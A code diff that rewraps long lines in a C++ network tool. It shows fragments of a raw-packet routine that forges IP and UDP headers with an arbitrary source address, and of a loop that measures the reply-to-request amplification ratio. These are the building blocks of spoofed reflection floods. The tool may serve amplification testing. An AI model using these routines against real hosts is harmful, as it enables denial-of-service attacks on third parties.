@@ -36,7 +36,8 @@ bool endpoint(const char* text, sockaddr_in& out) {
 
 std::vector<uint8_t> bytesOf(const char* hex) {
     std::vector<uint8_t> bytes;
-    for (size_t i = 0; hex[i] && hex[i + 1]; i += 2) bytes.push_back(uint8_t(std::stoul(std::string(hex + i, 2), nullptr, 16)));
+    for (size_t i = 0; hex[i] && hex[i + 1]; i += 2)
+        bytes.push_back(uint8_t(std::stoul(std::string(hex + i, 2), nullptr, 16)));
     return bytes;
 }
 
@@ -62,7 +63,8 @@ int forge(const sockaddr_in& from, const sockaddr_in& to, const std::vector<uint
     memcpy(packet.data(), &ip, sizeof ip);
     memcpy(packet.data() + sizeof ip, &udp, sizeof udp);
     memcpy(packet.data() + sizeof ip + sizeof udp, payload.data(), payload.size());
-    ssize_t sent = sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
+    ssize_t sent =
+        sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
     close(fd);
     if (sent < 0) perror("sendto");
     return sent < 0;
@@ -88,15 +90,16 @@ int amplify(const sockaddr_in& to, const std::vector<uint8_t>& request, long cou
     };
     auto start = std::chrono::steady_clock::now();
     for (long i = 0; i < count; ++i) {
-        if (sendto(fd, request.data(), request.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) > 0)
+        if (sendto(fd, request.data(), request.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) >
+            0)
             in += request.size();
         drain(0);
         if (gapMs) std::this_thread::sleep_for(std::chrono::milliseconds(gapMs));
     }
     double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
     drain(1000);
-    printf("%lu bytes in, %lu bytes out in %lu datagrams over %.2f s: %.1f times\n", in, out, replies, seconds,
-           in ? double(out) / double(in) : 0.0);
+    printf("%lu bytes in, %lu bytes out in %lu datagrams over %.2f s: %.1f times\n", in, out, replies,
+           seconds, in ? double(out) / double(in) : 0.0);
     close(fd);
     return 0;
 }
